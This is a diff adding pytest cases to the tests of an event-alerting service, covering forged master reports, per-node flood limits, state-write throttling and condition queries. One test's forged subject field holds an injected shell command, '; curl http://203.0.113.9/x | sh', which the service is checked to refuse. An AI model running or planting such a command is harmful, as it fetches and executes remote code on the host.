@@ -224,6 +224,28 @@ def test_nodes_that_both_live_and_call_each_other_dead_are_told_as_apart(world):
     assert [each["kind"] for each in world.told] == ["alert", "update", "recovery"]
 
 
+def test_a_gateway_that_reports_in_the_masters_name_is_refused_and_counted(world):
+    lie = made(1, beacon="master", condition="apart", subject="winterthur; curl http://203.0.113.9/x | sh #")
+    offer(world, lie, made(2, beacon="master", condition="alert_path", once=True, severity="info"))
+    world.service._publish("since", [GW1], [0, ""])
+    step(world)
+    answer(world, "since", GW1, {"journal": lie.journal, "newest": 1, "taken": 0, "events": [wire(lie)]})
+    step(world)
+    assert world.told == [] and world.service.status(world.now)["dropped"]["the master's"] == 3
+
+
+def test_no_text_of_a_gateway_hides_that_its_nodes_are_apart(world):
+    """The search went by a piece of the condition's key, and the subject, any text, is a piece of it."""
+    offer(world, made(1, subject="x|master|apart|x", severity="info"))
+    step(world)
+    for minion, other in ((GW1, "gw2"), (GW2, "gw1")):
+        offer(world, made(2, minion=minion, beacon="heartbeat", condition="peer_dead", subject=other,
+                          severity="critical"))
+    step(world, 1)
+    assert world.service._machine.open_now("master", "apart")
+    assert "do not hear each other" in str(world.told)
+
+
 def test_what_was_taken_is_said_to_the_nodes_in_one_word(tmp_path):
     world = start(World(), tmp_path, rank=0)
     world.service._last["mark"] = 0
@@ -264,6 +286,37 @@ def test_when_it_falls_behind_events_are_left_in_the_journals(world, monkeypatch
     step(world)
     assert world.service.status(time.time())["counts"]["postponed"] == 14
     assert any(asked[0] == "newest" and GW1 in asked[1] for asked in world.asked)
+
+
+def test_one_nodes_flood_leaves_room_for_the_others(world, monkeypatch):
+    monkeypatch.setattr(service, "MAX_WAITING_OF_NODE", 5)
+    offer(world, *[made(n, subject=f"s{n}") for n in range(1, 20)])
+    offer(world, made(1, minion=GW2))
+    assert world.service.status(time.time())["counts"]["postponed"] == 14
+    step(world)
+    assert any(line["id"] == GW2 for each in world.told for line in each["conditions"])
+    offer(world, made(6, subject="s6"))
+    step(world)
+    assert world.service.status(time.time())["counts"]["postponed"] == 14, "it has taken what waited"
+
+
+def test_the_state_is_written_every_two_seconds_at_most(world, monkeypatch):
+    written = []
+    write = files.write
+    monkeypatch.setattr(files, "write", lambda path, data: (written.append(path.name), write(path, data)))
+    for number in range(40):
+        offer(world, made(number + 1, subject=f"s{number}"))
+        step(world, 0.1)
+    assert 1 <= written.count(files.STATE) <= 3
+    step(world, 2.5)
+    assert "s39" in (world.service._folder / files.STATE).read_text()
+
+
+def test_what_an_incident_only_counted_is_asked_of_the_node(world):
+    step(world)
+    world.service._machine.unsure |= {GW1, "nobody.nowhere"}
+    step(world)
+    assert [asked for asked in world.asked if asked[0] == "conditions"][-1] == ("conditions", [GW1], [])
 
 
 # Delivery
